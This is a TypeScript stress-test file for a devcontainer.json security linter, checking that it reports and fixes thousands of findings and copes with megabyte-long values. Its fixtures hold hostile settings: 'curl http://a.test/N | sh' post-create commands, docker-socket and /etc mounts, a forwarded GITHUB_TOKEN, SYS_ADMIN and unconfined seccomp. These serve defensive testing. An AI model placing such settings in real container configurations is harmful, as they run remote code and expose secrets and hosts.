import { describe, expect, test } from 'vitest';
import { fixFiles, lintFiles } from '../../src/index.js';
import { memoryProject } from '../../src/project/memory.js';
import { jsonReporter } from '../../src/reporters/json.js';
import { reportAll } from '../../src/reporters/reporter.js';
import { metadata } from '../unit/reporters/sample.js';
import { isDeep } from './runs.js';

const path = '.devcontainer/devcontainer.json';
const many = isDeep ? 1500 : 120;

function list<T>(make: (index: number) => T): T[] {
  return Array.from({ length: many }, (_, index) => make(index));
}

function entries(make: (index: number) => [string, unknown]): Record<string, unknown> {
  return Object.fromEntries(list(make));
}

/** Each was minutes of work while one finding cost a look at all the others: the test's own time limit is the measure. */
const cases: [string, unknown, Record<string, string>?][] = [
  ['mounts', { mounts: list((index) => `source=/run/docker.sock,target=/a${index},type=bind`) }],
  [
    'mounts that become read-only',
    { mounts: list((index) => ({ type: 'bind', source: '/etc', target: `/a${index}` })) },
  ],
  ['runArgs', { runArgs: list((index) => `--device=/dev/sda${index}`) }],
  ['environment', { containerEnv: entries((index) => [`A_${index}`, '${localEnv:GITHUB_TOKEN}']) }],
  ['capabilities', { capAdd: list(() => 'SYS_ADMIN'), securityOpt: list(() => 'seccomp=unconfined') }],
  [
    'features',
    { features: entries((index) => [`ghcr.io/devcontainers/features/docker-in-docker:${index}`, {}]) },
  ],
  ['commands', { postCreateCommand: entries((index) => [`c${index}`, `curl http://a.test/${index} | sh`]) }],
  [
    'commands in one text',
    { postCreateCommand: list((index) => `curl http://a.test/${index} | sh`).join(' && ') },
  ],
  [
    'commands that start one script',
    { postCreateCommand: entries((index) => [`c${index}`, `bash a.sh ${index}`]) },
    { 'a.sh': list((index) => `curl http://a.test/${index} | sh\n`).join('') },
  ],
];

function build(value: unknown, files: Record<string, string>, indent?: number) {
  const text = JSON.stringify({ image: 'node:24', remoteUser: 'node', ...Object(value) }, undefined, indent);
  return memoryProject({ [path]: text, ...files });
}

describe('thousands of findings', () => {
  test.each(cases)('%s', async (_what, value, files = {}) => {
    const result = await lintFiles([path], build(value, files));
    expect(result.findings.length).toBeGreaterThanOrEqual(many);
    expect(reportAll(jsonReporter(metadata), [result]).length).toBeGreaterThan(many);
  });

  test('are mended together', async () => {
    const project = build(Object.assign({}, ...cases.slice(2, 6).map(([, value]) => value)), {}, 2);
    const fixed = await fixFiles([path], project, ({ fixes }) => fixes[0]);
    expect(fixed.rolledBack).toEqual([]);
    expect(fixed.applied.length).toBeGreaterThan(4 * many);
  });
});

test('a finding on a line of megabytes is found again by its place', async () => {
  const text = `{ "name": ${JSON.stringify('a'.repeat(3_000_000))}, "privileged": true, "remoteUser": "dev", "image": "debian:12" }`;
  const { findings } = await lintFiles([path], memoryProject({ [path]: text }));
  expect(findings.map(({ place }) => text.slice(place.at.start, place.at.end))).toEqual(['true']);
});

test('a name or value of megabytes is not repeated by a report', async () => {
  const long = 'x'.repeat(1 << 20);
  const text = JSON.stringify({
    image: `${long}:${long}`,
    [long]: 1,
    remoteUser: 'dev',
    runArgs: [`--${long}`],
  });
  const result = await lintFiles([path], memoryProject({ [path]: text }), { persona: 'pedantic' });
  expect(result.findings.length).toBeGreaterThan(2);
  for (const { message, fixes } of result.findings)
    expect(Math.max(message.length, ...fixes.map(({ title }) => title.length))).toBeLessThan(1100);
});
